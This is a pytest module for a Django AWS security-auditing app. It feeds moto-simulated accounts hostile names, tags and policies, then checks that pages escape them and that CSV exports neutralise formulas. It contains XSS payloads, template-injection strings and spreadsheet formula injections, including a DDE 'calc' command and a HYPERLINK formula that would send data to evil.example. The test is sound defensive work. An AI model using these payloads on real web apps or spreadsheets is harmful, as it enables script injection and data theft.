"""Hostile AWS data, from moto through the real pipeline to every page and export.

Whoever controls a member account writes its names, tags and policies. The
scene (``hostile``) seeds moto with markup, template syntax, spreadsheet
formulas, bidirectional and zero-width text, a megabyte policy, a policy
nested 200 levels deep and responses that are not UTF-8, runs a real scan
(collectors, snapshot store, engine), then checks that every resource is
stored intact, no page runs or parses the markup, no CSV cell is a formula,
and nothing crashes. The browser test opens the pages in Debian's Chromium
with a ``window.__pwned`` tripwire that every payload would set.
"""

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts import aws as aws_sessions
from accounts.discovery import discover_accounts
from accounts.models import Account, Organization
from collectors import pipeline
from collectors.models import Resource, Scan, ScanUnit, Snapshot
from collectors.tests.conftest import member_session
from findings import suppressions
from findings.exports import FORMULA_PREFIXES, csv_lines
from findings.models import Finding, Suppression
from findings.tests.conftest import RECORD_CSP_VIOLATIONS, needs_chromium
from findings.tests.factories import make_team, make_user

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"

# -- Payloads ----------------------------------------------------------------------

SCRIPT = "<script>window.__pwned=1</script>"
IMG = '"><img src=x onerror="window.__pwned=1">'
TEMPLATE_VAR = "{{ request.user }}"
TEMPLATE_TAG = "{% debug %}"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
RTL = "invoice\u202egpj.exe"  # shows as "invoiceexe.jpg"
ZERO_WIDTH = "ad\u200dmin\u200b"
EMOJI = "🔥👩\u200d💻🛡️"
QUOTES = 'say "hi",\nthen leave'
#: Cell prefixes a spreadsheet evaluates (OWASP CSV injection).
FORMULAS = ["=1+2", HYPERLINK, "+cmd", "-2+3", "@SUM(1)", "\tcmd", "\rcmd"]
MARKUP = [SCRIPT, IMG, TEMPLATE_VAR, TEMPLATE_TAG]
TEXTS = [*MARKUP, RTL, ZERO_WIDTH, EMOJI, QUOTES]

#: IAM user names: moto, unlike AWS, accepts any text, which is what a
#: compromised or buggy endpoint could send.
USER_NAMES = ["=1+2", "+cmd", "-2+3", "@SUM(1)", f"x{IMG}", f"{RTL}{EMOJI}"]
TAGGED_USER = "+cmd"
#: S3 tags: AWS allows 50 per bucket, keys up to 128, values up to 256.
BUCKET_TAGS = {
    **{f"text-{n}": value for n, value in enumerate(TEXTS)},
    **{f"formula-{n}": value for n, value in enumerate(FORMULAS)},
    SCRIPT: "key holds markup",
    IMG: "key holds an attribute breakout",
    "=cmd|' /C calc'!A0": "key holds a DDE formula",
}
#: IAM keeps tabs in tag values; XML turns a CR into a newline.
USER_TAGS = {
    **{f"text-{n}": value for n, value in enumerate(TEXTS)},
    **{f"formula-{n}": value for n, value in enumerate(FORMULAS[:-1])},
}
DEPTH = 200
UNSTORABLE_POLICY = {
    "Version": "2012-10-17",
    "Statement": [{"Sid": "nul\u0000", "Condition": {"lone": "\ud800 surrogate"}}],
}
BIG_POLICY_NAME = "huge-policy"
BIG_POLICY_VALUES = 1000  # x 1,000 characters: a ~1 MB document


def nested(depth: int) -> dict:
    """``{"k": {"k": ... {"leaf": SCRIPT}}}``, ``depth`` objects deep."""
    value: dict = {"leaf": SCRIPT}
    for _ in range(depth - 1):
        value = {"k": value}
    return value


def hostile_policy(bucket: str) -> dict:
    return {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Sid": "Hostile",
                "Effect": "Deny",
                "Principal": "*",
                "Action": "s3:GetObject",
                "Resource": f"arn:aws:s3:::{bucket}/*",
                "Condition": {
                    "StringEquals": {"aws:UserAgent": [*TEXTS, *FORMULAS]},
                    "ForAnyValue:StringLike": nested(DEPTH),
                },
            }
        ],
    }


def big_policy() -> dict:
    """An IAM policy document of about 1 MB (AWS caps them at 6,144 characters;
    moto does not, which is how a hostile endpoint would look)."""
    # Characters that HTML escaping multiplies: the worst case for a page.
    values = [f"{SCRIPT}{n:04d}" + '<"&>' * 240 for n in range(BIG_POLICY_VALUES)]
    return {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Action": "s3:GetObject",
                "Resource": "*",
                "Condition": {"StringEquals": {"aws:UserAgent": values}},
            }
        ],
    }


# -- Malformed responses -----------------------------------------------------------

NOT_UTF8 = b"\xff\xfe\xc3("


@dataclass
class Mangler:
    """Rewrites AWS answers for the sessions the scanner assumes, per account.

    ``before-parse`` handlers replace a response body with bytes that are not
    UTF-8 (what a broken proxy or endpoint sends); ``before-call`` handlers
    answer a call with an AWS error whose message carries hostile text (AWS
    messages quote resource names).
    """

    rules: list[tuple[str, str, object]] = field(default_factory=list)

    def install(self, monkeypatch) -> None:
        real = aws_sessions.assume_role

        def assume_role(role_arn, **kwargs):
            session = real(role_arn, **kwargs)
            account = role_arn.split(":")[4]
            for rule_account, event, handler in self.rules:
                if rule_account == account:
                    session.events.register(event, handler)
            return session

        monkeypatch.setattr(aws_sessions, "assume_role", assume_role)
        aws_sessions.forget_credentials()

    def garble(
        self, account: str, service: str, operation: str, how: Callable[[bytes], bytes]
    ) -> None:
        def handler(response_dict, **kwargs):
            if response_dict["status_code"] == 200:
                response_dict["body"] = how(response_dict["body"])

        self.rules.append((account, f"before-parse.{service}.{operation}", handler))

    def fail(self, account: str, service: str, operation: str, message: str) -> None:
        from botocore.awsrequest import AWSResponse

        def handler(**kwargs):
            http = AWSResponse("https://hostile.invalid", 403, {}, None)
            error = {"Code": "AccessDenied", "Message": message}
            return http, {"Error": error, "ResponseMetadata": {"HTTPStatusCode": 403}}

        self.rules.append((account, f"before-call.{service}.{operation}", handler))


def _bad_tag_value(body: bytes) -> bytes:
    return body.replace(b"</Value>", NOT_UTF8 + b"</Value>", 1)


def _bad_policy(body: bytes) -> bytes:
    return b'{"Version":"2012-10-17","Statement":[{"Sid":"' + NOT_UTF8 + b'"}]}'


def _bad_xml(body: bytes) -> bytes:
    return body.replace(b"</Name>", NOT_UTF8 + b"</Name>", 1)


# -- The scene ---------------------------------------------------------------------


@dataclass
class Scene:
    org: Organization
    prod: Account  # everything collected
    dev: Account  # malformed answers and a hostile error message
    scan: Scan
    run: Callable[[], Scan]  # scan again
    alice: Any  # a member of the team that sees both accounts


def _create_org(aws) -> tuple[Organization, str, str]:
    orgs = aws.client("organizations")
    orgs.create_organization(FeatureSet="ALL")
    ids = []
    for name in (f"{HYPERLINK} {SCRIPT}", f"{IMG}{RTL}"):
        created = orgs.create_account(AccountName=name, Email="a@example.com")
        ids.append(created["CreateAccountStatus"]["AccountId"])
    orgs.tag_resource(
        ResourceId=ids[0], Tags=[{"Key": "owner", "Value": f"{SCRIPT}{EMOJI}"}]
    )
    org = Organization.objects.create(
        name=f"Hostile {TEMPLATE_VAR}",
        management_account_id="123456789012",
        member_role_name="ParapetAudit",
        external_id="ext-hostile",
        regions=["us-east-1"],
    )
    discover_accounts(org)
    return org, ids[0], ids[1]


def _seed_prod(account_id: str) -> None:
    session = member_session(account_id)
    s3 = session.client("s3")
    s3.create_bucket(Bucket="hostile-tags")
    s3.put_bucket_tagging(
        Bucket="hostile-tags",
        Tagging={"TagSet": [{"Key": k, "Value": v} for k, v in BUCKET_TAGS.items()]},
    )
    s3.put_bucket_policy(
        Bucket="hostile-tags", Policy=json.dumps(hostile_policy("hostile-tags"))
    )
    s3.put_bucket_acl(Bucket="hostile-tags", ACL="public-read")
    # JSON escapes Postgres refuses to store (NUL, a lone surrogate).
    s3.create_bucket(Bucket="control-chars")
    s3.put_bucket_policy(Bucket="control-chars", Policy=json.dumps(UNSTORABLE_POLICY))
    iam = session.client("iam")
    for name in USER_NAMES:
        iam.create_user(UserName=name)
    iam.tag_user(
        UserName=TAGGED_USER,
        Tags=[{"Key": k, "Value": v} for k, v in USER_TAGS.items()],
    )
    arn = iam.create_policy(
        PolicyName=BIG_POLICY_NAME, PolicyDocument=json.dumps(big_policy())
    )["Policy"]["Arn"]
    iam.attach_user_policy(UserName=TAGGED_USER, PolicyArn=arn)


def _seed_dev(account_id: str, mangler: Mangler) -> None:
    s3 = member_session(account_id).client("s3")
    for bucket in ("garbled-answers", "plain-bucket"):
        s3.create_bucket(Bucket=bucket)
        s3.put_bucket_tagging(
            Bucket=bucket, Tagging={"TagSet": [{"Key": "k", "Value": "v"}]}
        )
        s3.put_bucket_policy(Bucket=bucket, Policy=json.dumps(hostile_policy(bucket)))
    mangler.garble(account_id, "s3", "GetBucketTagging", _bad_tag_value)
    mangler.garble(account_id, "s3", "GetBucketPolicy", _bad_policy)
    mangler.fail(
        account_id, "iam", "ListUsers", f"User {IMG} {SCRIPT} is not authorized"
    )


def _scene(aws, monkeypatch, capture) -> Scene:
    org, prod_id, dev_id = _create_org(aws)
    _seed_prod(prod_id)
    mangler = Mangler()
    _seed_dev(dev_id, mangler)
    # The management account's bucket listing arrives as invalid XML.
    aws.client("s3").create_bucket(Bucket="management-logs")
    mangler.garble("123456789012", "s3", "ListBuckets", _bad_xml)
    mangler.install(monkeypatch)

    def run() -> Scan:
        with capture(execute=True):
            scan = pipeline.plan_scan(org, services=["s3", "iam"])
        scan.refresh_from_db()
        return scan

    scan = run()
    prod = Account.objects.get(account_id=prod_id)
    dev = Account.objects.get(account_id=dev_id)
    alice = make_user("alice")
    make_team(f"Team {SCRIPT}", members=[alice], accounts=[prod, dev])
    return Scene(org, prod, dev, scan, run, alice)


@pytest.fixture
def hostile(aws, db, monkeypatch, django_capture_on_commit_callbacks) -> Scene:
    return _scene(aws, monkeypatch, django_capture_on_commit_callbacks)


@pytest.fixture
def hostile_live(
    aws, transactional_db, monkeypatch, django_capture_on_commit_callbacks
) -> Scene:
    """The scene, committed: the live server's thread reads it."""
    return _scene(aws, monkeypatch, django_capture_on_commit_callbacks)


def _resource(account: Account, resource_id: str) -> Resource:
    return Resource.objects.select_related("current_snapshot").get(
        account=account, resource_id=resource_id
    )


# -- Stored intact -----------------------------------------------------------------


def test_every_hostile_resource_is_stored_intact(hostile):
    scan = hostile.scan
    units = {(u.account_id, u.service): u for u in scan.units.all()}
    assert units[(hostile.prod.pk, "s3")].status == ScanUnit.Status.OK
    assert units[(hostile.prod.pk, "iam")].status == ScanUnit.Status.OK
    assert scan.status == Scan.Status.PARTIAL

    # Account names and tags from Organizations, as AWS sent them.
    assert hostile.prod.name == f"{HYPERLINK} {SCRIPT}"
    assert hostile.prod.tags == {"owner": f"{SCRIPT}{EMOJI}"}
    assert hostile.dev.name == f"{IMG}{RTL}"

    bucket = _resource(hostile.prod, "hostile-tags")
    snapshot = bucket.current_snapshot
    expected_tags = dict(BUCKET_TAGS)
    # S3's XML answer loses a value's leading tab or CR (AWS trims them too).
    expected_tags.update({"formula-5": "cmd", "formula-6": "cmd"})
    assert snapshot.tags == expected_tags
    assert snapshot.config["Policy"] == hostile_policy("hostile-tags")
    condition = snapshot.config["Policy"]["Statement"][0]["Condition"]
    depth, node = 0, condition["ForAnyValue:StringLike"]
    while "k" in node:
        depth, node = depth + 1, node["k"]
    assert (depth + 1, node) == (DEPTH, {"leaf": SCRIPT})

    # What Postgres cannot store becomes U+FFFD; the unit and its other
    # buckets are unharmed.
    statement = _resource(hostile.prod, "control-chars").current_snapshot.config[
        "Policy"
    ]["Statement"][0]
    assert statement == {"Sid": "nul\ufffd", "Condition": {"lone": "\ufffd surrogate"}}

    users = Resource.objects.filter(
        account=hostile.prod, resource_type="AWS::IAM::User"
    )
    assert {u.resource_id for u in users} == set(USER_NAMES)
    assert {u.name for u in users} == set(USER_NAMES)
    tagged = _resource(hostile.prod, TAGGED_USER)
    assert tagged.current_snapshot.tags == {
        **USER_TAGS,
        "formula-5": "\tcmd",
    }

    policy = _resource(hostile.prod, BIG_POLICY_NAME)
    document = policy.current_snapshot.config["DefaultVersion"]["Document"]
    assert document == big_policy()
    assert len(json.dumps(document)) > 1_000_000

    # Every record has one snapshot, and an unchanged rescan writes none.
    snapshots = Snapshot.objects.filter(resource__account=hostile.prod).count()
    assert snapshots == Resource.objects.filter(account=hostile.prod).count()
    again = hostile.run()
    assert Snapshot.objects.filter(resource__account=hostile.prod).count() == snapshots
    assert sum(u.snapshots_written for u in again.units.all()) == 0
    # Findings were evaluated on the hostile resources.
    assert Finding.objects.filter(resource=bucket, status="FAIL").exists()


def test_malformed_responses_are_gaps_not_crashes(hostile):
    units = {(u.account_id, u.service): u for u in hostile.scan.units.all()}
    # Bytes that are not UTF-8 inside a per-bucket answer: the bucket is
    # still stored, the unreadable part recorded as an error (ERROR findings).
    dev_s3 = units[(hostile.dev.pk, "s3")]
    assert dev_s3.status == ScanUnit.Status.OK, dev_s3.error_message
    for name in ("garbled-answers", "plain-bucket"):
        config = _resource(hostile.dev, name).current_snapshot.config
        assert config["Policy"] is None
        assert config["_errors"]["Policy"].startswith("unsupported:")
        assert config["_errors"]["Tags"].startswith("unsupported:")
    # An error message quoting hostile names is stored as sent.
    dev_iam = units[(hostile.dev.pk, "iam")]
    assert dev_iam.status == ScanUnit.Status.FAILED
    assert dev_iam.error_kind == "access_denied"
    assert SCRIPT in dev_iam.error_message and IMG in dev_iam.error_message
    # A listing that is not UTF-8 fails its unit only, classified.
    management = Account.objects.get(account_id="123456789012")
    listing = units[(management.pk, "s3")]
    assert listing.status == ScanUnit.Status.FAILED
    assert listing.error_kind == "unsupported"
    assert units[(management.pk, "iam")].status == ScanUnit.Status.OK


# -- Pages -------------------------------------------------------------------------


class _Markup(HTMLParser):
    """What the browser would build: elements that would run code, and the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.dangerous: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        values = dict(attrs)
        handlers = [name for name, _ in attrs if name.startswith("on")]
        if handlers:
            self.dangerous.append(f"<{tag} {' '.join(handlers)}>")
        # The only script is htmx, served by the app (DESIGN.md, Web).
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.dangerous.append(f"<script {values}>")
        if values.get("src") == "x" or tag in {"iframe", "object", "embed"}:
            self.dangerous.append(f"<{tag} {values}>")
        for name in ("href", "src", "action", "formaction"):
            if (values.get(name) or "").strip().lower().startswith("javascript:"):
                self.dangerous.append(f"<{tag} {name}={values[name]}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> _Markup:
    markup = _Markup()
    markup.feed(html)
    markup.close()
    return markup


def assert_safe(response, *shown: str) -> str:
    """200, nothing from the data became markup, and ``shown`` reads as text."""
    assert response.status_code == 200, response.status_code
    html = response.content.decode()
    markup = parse(html)
    assert markup.dangerous == []
    text = "".join(markup.text)
    for value in shown:
        assert value in text, value
    # Template syntax in the data is shown as written, never evaluated.
    assert "sql_queries" not in html  # what {% debug %} would print
    return html


@pytest.fixture
def client_for(client):
    def login(user):
        client.force_login(user)
        return client

    return login


def _exception(scene: Scene, resource: Resource) -> Suppression:
    return suppressions.create(
        actor=scene.alice,
        control_id="s3.bucket.no-public-acl",
        scope=Suppression.Scope.RESOURCE,
        reason=f"{SCRIPT} {IMG} {TEMPLATE_TAG} {HYPERLINK}",
        approver=f"{TEMPLATE_VAR} {RTL}",
        expires_at=timezone.now() + timedelta(days=30),
        resource=resource,
    )


def test_no_page_runs_or_evaluates_hostile_data(hostile, client_for):
    staff = make_user("root", staff=True)
    client = client_for(staff)
    bucket = _resource(hostile.prod, "hostile-tags")
    # A second snapshot, so the diff has both sides.
    s3 = member_session(hostile.prod.account_id).client("s3")
    changed = {**BUCKET_TAGS, "text-0": f"{IMG} now"}
    s3.put_bucket_tagging(
        Bucket="hostile-tags",
        Tagging={"TagSet": [{"Key": k, "Value": v} for k, v in changed.items()]},
    )
    second = hostile.run()
    exception = _exception(hostile, bucket)
    users = Resource.objects.filter(
        account=hostile.prod, resource_type="AWS::IAM::User"
    )

    pages = {
        reverse("findings:overview"): [hostile.prod.name],
        reverse("findings:account", args=[hostile.prod.pk]): [hostile.prod.name],
        reverse("findings:account", args=[hostile.dev.pk]): [hostile.dev.name],
        reverse("findings:resource", args=[bucket.pk]): [SCRIPT, IMG, *TEXTS],
        # JSON lines: the value as JSON writes it.
        reverse("findings:resource_diff", args=[bucket.pk]): [
            json.dumps(f"{IMG} now"),
            json.dumps(SCRIPT),
        ],
        reverse("findings:explorer"): [hostile.prod.name],
        reverse("findings:explorer") + "?resource_type=AWS::IAM::User": USER_NAMES,
        reverse("findings:explorer") + f"?q={SCRIPT}": [],
        reverse("findings:control", args=["s3.bucket.no-public-acl"]): [],
        reverse("findings:section", args=["service/storage/s3"]): [],
        reverse("findings:exceptions"): [exception.reason],
        reverse("findings:exception", args=[exception.pk]): [exception.reason],
        reverse("findings:exceptions_log"): [],
        reverse("findings:exception_new")
        + f"?control=s3.bucket.no-public-acl&resource={bucket.pk}": [],
        reverse("collectors:scans"): [],
        reverse("collectors:scan", args=[hostile.scan.pk]): [SCRIPT, IMG],
        reverse("collectors:scan", args=[second.pk]): [],
        reverse("findings:digest_preview"): [],
        **{reverse("findings:resource", args=[u.pk]): [u.name] for u in users},
    }
    for url, shown in pages.items():
        assert_safe(client.get(url), *shown)


def test_a_megabyte_policy_page_is_cut_to_a_bounded_size(hostile, client_for):
    client = client_for(hostile.alice)
    policy = _resource(hostile.prod, BIG_POLICY_NAME)
    # A second megabyte version, every line changed: the diff's worst case.
    document = big_policy()
    values = document["Statement"][0]["Condition"]["StringEquals"]["aws:UserAgent"]
    values[:] = [value.replace("&", "'") for value in values]
    iam = member_session(hostile.prod.account_id).client("iam")
    iam.create_policy_version(
        PolicyArn=policy.arn, PolicyDocument=json.dumps(document), SetAsDefault=True
    )
    hostile.run()
    assert policy.snapshots.count() == 2

    page = assert_safe(client.get(reverse("findings:resource", args=[policy.pk])))
    diff = assert_safe(client.get(reverse("findings:resource_diff", args=[policy.pk])))

    # ~1 MB of JSON that escapes to ~4 MB of HTML per version.
    assert len(page.encode()) < 1_500_000
    assert "too large to show in full" in page
    assert "more characters not shown" in page
    assert len(diff.encode()) < 1_500_000
    assert "only their first lines were compared" in diff


# -- CSV exports -------------------------------------------------------------------


def read_csv(text: str) -> list[dict[str, str]]:
    """Rows of an export; fails on any cell a spreadsheet would evaluate."""
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    for row in rows:
        for column, cell in row.items():
            first = cell.lstrip(" \n")[:1]
            assert not (first and first in FORMULA_PREFIXES), (column, cell)
    return rows


def download(client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    return read_csv(b"".join(response.streaming_content).decode())


def test_no_export_holds_a_formula_and_text_round_trips(hostile, client_for):
    client = client_for(hostile.alice)
    bucket = _resource(hostile.prod, "hostile-tags")
    exception = _exception(hostile, bucket)
    formula_reason = suppressions.create(
        actor=hostile.alice,
        control_id="s3.bucket.no-public-acl",
        scope=Suppression.Scope.ACCOUNT,
        reason=f"{HYPERLINK}\n{QUOTES}",
        approver="@SUM(1)",
        expires_at=timezone.now() + timedelta(days=30),
        account=hostile.prod,
    )
    neutral = {value: f"'{value}" for value in USER_NAMES if value[0] in "=+-@"}

    users = download(
        client, reverse("findings:explorer_csv") + "?resource_type=AWS::IAM::User"
    )
    assert {r["resource_id"] for r in users} >= set(neutral.values())
    assert {r["resource_name"] for r in users} >= set(neutral.values())
    assert f"x{IMG}" in {r["resource_id"] for r in users}
    assert {r["account_name"] for r in users} == {f"'{hostile.prod.name}"}
    tagged = next(r for r in users if r["resource_id"] == f"'{TAGGED_USER}")
    # Tags are one JSON cell: quotes, newlines and tabs round-trip in it.
    assert json.loads(tagged["resource_tags"]) == {**USER_TAGS, "formula-5": "\tcmd"}

    findings = download(client, reverse("findings:explorer_csv"))
    assert {r["resource_id"] for r in findings} >= {"hostile-tags", *neutral.values()}

    exceptions = {
        r["id"]: r for r in download(client, reverse("findings:exceptions_csv"))
    }
    assert exceptions[str(exception.pk)]["reason"] == exception.reason
    assert exceptions[str(exception.pk)]["approver"] == exception.approver
    formula = exceptions[str(formula_reason.pk)]
    assert formula["reason"] == f"'{HYPERLINK}\n{QUOTES}"
    assert formula["approver"] == "'@SUM(1)"
    assert formula["account_name"] == f"'{hostile.prod.name}"

    user = _resource(hostile.prod, "=1+2")
    history = download(client, reverse("findings:resource_history_csv", args=[user.pk]))
    assert history and {r["resource_id"] for r in history} == {"'=1+2"}

    units = download(client, reverse("findings:scan_units_csv", args=[hostile.scan.pk]))
    denied = next(r for r in units if r["error_kind"] == "access_denied")
    assert SCRIPT in denied["error_message"] and IMG in denied["error_message"]
    assert {r["account_name"] for r in units} >= {
        f"'{hostile.prod.name}",
        hostile.dev.name,
    }
    for name in (
        "findings:accounts_csv",
        "findings:controls_csv",
        "findings:scans_csv",
    ):
        assert download(client, reverse(name))
    account_rows = download(
        client, reverse("findings:account_findings_csv", args=[hostile.prod.pk])
    )
    assert {"'+cmd", "hostile-tags"} <= {r["resource_id"] for r in account_rows}

    out = io.StringIO()
    call_command("export_findings", stdout=out)
    cli = read_csv(out.getvalue())
    assert {r["resource_id"] for r in cli} >= {"hostile-tags", *neutral.values()}


@pytest.mark.parametrize("prefix", [*FORMULA_PREFIXES, " =", "\n+", " \n@"])
def test_every_formula_prefix_is_neutralised_and_round_trips(prefix):
    """Prefixes AWS's XML cannot carry (a CR), checked at the CSV layer."""
    value = f"{prefix}cmd|' /C calc'!A0"
    [line] = list(csv_lines(["cell"], [[value]]))[1:]
    [[cell]] = list(csv.reader(io.StringIO(line, newline="")))
    assert cell == f"'{value}"
    [[plain]] = list(csv.reader(io.StringIO(next(csv_lines([QUOTES], [])), newline="")))
    assert plain == QUOTES


# -- In a browser ------------------------------------------------------------------

#: Every payload sets ``window.__pwned``; ``alert`` would open a dialog.
TRIPWIRE = RECORD_CSP_VIOLATIONS + "window.__pwned = undefined;"


def _browse(chromium, live_server, user, urls: dict[str, str], *, bypass_csp: bool):
    """Open each page; the problems seen (tripwire, dialogs, errors, CSP)."""
    context = chromium.new_context(
        viewport={"width": 1280, "height": 900}, bypass_csp=bypass_csp
    )
    browser_client = Client()
    browser_client.force_login(user)
    session = browser_client.cookies[settings.SESSION_COOKIE_NAME].value
    context.add_cookies(
        [
            {
                "name": settings.SESSION_COOKIE_NAME,
                "value": session,
                "url": live_server.url,
            }
        ]
    )
    context.add_init_script(TRIPWIRE)
    tab = context.new_page()
    problems: list[str] = []
    tab.on(
        "dialog",
        lambda dialog: (problems.append(f"dialog {dialog.message}"), dialog.dismiss()),
    )
    tab.on("pageerror", lambda exc: problems.append(f"uncaught: {exc}"))
    tab.on(
        "console",
        lambda msg: (
            problems.append(f"console: {msg.text}") if msg.type == "error" else None
        ),
    )
    try:
        # The tripwire works: the payload unescaped does set it.
        tab.set_content(f"<p>{IMG}</p>")
        tab.wait_for_function("window.__pwned === 1")
        for name, url in urls.items():
            response = tab.goto(live_server.url + url)
            tab.wait_for_load_state("networkidle")
            if not response.ok:
                problems.append(f"{name}: HTTP {response.status}")
            # Collapsed JSON, raw text and change lists are in the page too.
            tab.evaluate(
                "document.querySelectorAll('details').forEach(d => d.open = true)"
            )
            if tab.evaluate("window.__pwned") is not None:
                problems.append(f"{name}: a payload ran")
            problems += [f"{name}: {v}" for v in tab.evaluate("window.cspViolations")]
            if not bypass_csp:
                ARTIFACTS.mkdir(exist_ok=True)
                tab.screenshot(
                    path=str(ARTIFACTS / f"hostile-{name}.png"), full_page=True
                )
    finally:
        context.close()
    return problems


@needs_chromium
@pytest.mark.e2e
def test_no_payload_runs_in_the_browser(
    hostile_live, live_server, chromium, monkeypatch
):
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    scene = hostile_live
    bucket = _resource(scene.prod, "hostile-tags")
    s3 = member_session(scene.prod.account_id).client("s3")
    changed = {**BUCKET_TAGS, "text-0": f"{IMG} now", "text-1": f"{SCRIPT} now"}
    s3.put_bucket_tagging(
        Bucket="hostile-tags",
        Tagging={"TagSet": [{"Key": k, "Value": v} for k, v in changed.items()]},
    )
    scene.run()
    _exception(scene, bucket)
    user = _resource(scene.prod, f"x{IMG}")
    urls = {
        "resource": reverse("findings:resource", args=[bucket.pk]),
        "diff": reverse("findings:resource_diff", args=[bucket.pk]),
        "user": reverse("findings:resource", args=[user.pk]),
        "explorer": reverse("findings:explorer") + "?resource_type=AWS::IAM::User",
        "exceptions": reverse("findings:exceptions"),
        "scan": reverse("collectors:scan", args=[scene.scan.pk]),
        "account": reverse("findings:account", args=[scene.prod.pk]),
    }
    # As served (the CSP would block an injected script: a violation), and with
    # the CSP bypassed, so the tripwire tests the escaping on its own.
    assert _browse(chromium, live_server, scene.alice, urls, bypass_csp=False) == []
    assert _browse(chromium, live_server, scene.alice, urls, bypass_csp=True) == []
